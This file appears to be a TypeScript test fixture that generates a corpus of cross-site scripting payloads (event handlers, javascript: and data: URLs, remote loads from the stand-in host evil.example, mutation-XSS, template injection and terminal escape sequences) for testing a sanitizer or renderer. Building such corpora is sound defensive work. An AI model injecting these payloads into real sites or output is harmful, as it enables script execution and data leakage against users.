/** The host that every payload names; no request may reach it. */
export const FOREIGN = 'evil.example'

const HIT = 'window.__hit&&__hit(1)'
const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'input',
  'details',
  'iframe',
  'object',
  'embed',
  'marquee',
  'math',
  'a',
  'style',
  'link',
  'form',
  'button',
  'select',
  'textarea',
  'x',
] as const
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onstart',
  'onpageshow',
] as const

/** One element per tag and event handler: 200. */
const handlers = TAGS.flatMap((tag) =>
  EVENTS.map((event) => `<${tag} src=x href=x ${event}="${HIT}" autofocus open tabindex=1 style="animation:x">t</${tag}>`),
)

const SCHEMES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  ` javascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `&#106;avascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>`,
  `vbscript:${HIT}`,
  `blob:${HIT}`,
] as const
/** Addresses with scripts, in every place that takes an address: 90. */
const addresses = SCHEMES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<form action="${address}"><button>x</button></form>`,
  `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  `<math href="${address}">x</math>`,
  `[x](${address})`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
])

const URLS = [`https://${FOREIGN}/p`, `//${FOREIGN}/p`, `http://${FOREIGN}/p?d=1`, `https:${FOREIGN}/p`] as const
/** Loads from another host: 80. */
const loads = URLS.flatMap((url) => [
  `<img src="${url}">`,
  `<img srcset="${url} 1x">`,
  `<picture><source srcset="${url}"><img></picture>`,
  `<link rel=stylesheet href="${url}">`,
  `<link rel=preload as=image href="${url}">`,
  `<link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}">`,
  `<style>@import "${url}"; body{background:url(${url})}</style>`,
  `<div style="background:url(${url})">x</div>`,
  `<video src="${url}" poster="${url}" autoplay></video>`,
  `<audio src="${url}" autoplay></audio>`,
  `<iframe src="${url}"></iframe>`,
  `<object data="${url}"></object><embed src="${url}">`,
  `<base href="${url}/"><img src="relative.png">`,
  `<svg><image href="${url}"/><use href="${url}#x"/><feImage href="${url}"/></svg>`,
  `<body background="${url}"><table background="${url}"><td>x`,
  `![x](${url})`,
  `![x][r]\n\n[r]: ${url}`,
  `[![x](${url})](https://${FOREIGN})`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<script src="${url}"></script>`,
])

/** Markup that changes its meaning when it is parsed again, and forms known from reports: 36. */
const mutations = [
  `<script>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg/onload=${HIT}>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${HIT}">`,
  `<svg><foreignObject><img src=x onerror="${HIT}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${HIT}>">`,
  `<math><mi><table><mglyph><style><math><img src=x onerror=${HIT}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${HIT}>">`,
  `<title><img title="</title><img src=x onerror=${HIT}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=top.${HIT}&gt;"></iframe>`,
  `<div id=app></div><img name=body><form id=documentElement><input name=attributes>`,
  `<a id=location href="javascript:${HIT}"><a id=location name=href>`,
  `"><img src=x onerror=${HIT}>`,
  `'><svg onload=${HIT}>`,
  `--><img src=x onerror=${HIT}>`,
  `]]><img src=x onerror=${HIT}>`,
  '${' + HIT + '}{{constructor.constructor("' + HIT + '")()}}',
  `\u0000<img src=x onerror=${HIT}>`,
  `<img src=x onerror\u000c=${HIT}>`,
  `<img/src="x"/onerror=${HIT}//`,
  `\`\`\`html\n<img src=x onerror=${HIT}>\n\`\`\``,
  `<!--<img src="--><img src=x onerror=${HIT}>">`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `\u001b]8;;javascript:${HIT}\u001b\\link\u001b]8;;\u001b\\`,
  `\u001b]8;;https://${FOREIGN}/p\u001b\\link\u001b]8;;\u001b\\`,
  `\u001b[31m<img src=x onerror=${HIT}>\u001b[0m`,
  `\u001b]52;c;ZXZpbA==\u0007\u001b]0;<script>${HIT}</script>\u0007`,
  `\\href{javascript:${HIT}}{x}\\url{https://${FOREIGN}/p}\\includegraphics{https://${FOREIGN}/p.png}`,
  `\\htmlData{x=<img src=x onerror=${HIT}>}{y}\\htmlStyle{background:url(https://${FOREIGN}/p)}{z}`,
]

/** Every payload. Each calls `window.__hit` when a browser runs it, or names the foreign host when a browser loads it. */
export const CORPUS: readonly string[] = [...handlers, ...addresses, ...loads, ...mutations]

const SAMPLE_STEP = 9

/** Every ninth payload, and the forms known from reports in full. */
export const SAMPLE: readonly string[] = [...[...handlers, ...addresses, ...loads].filter((_, at) => at % SAMPLE_STEP === 0), ...mutations]
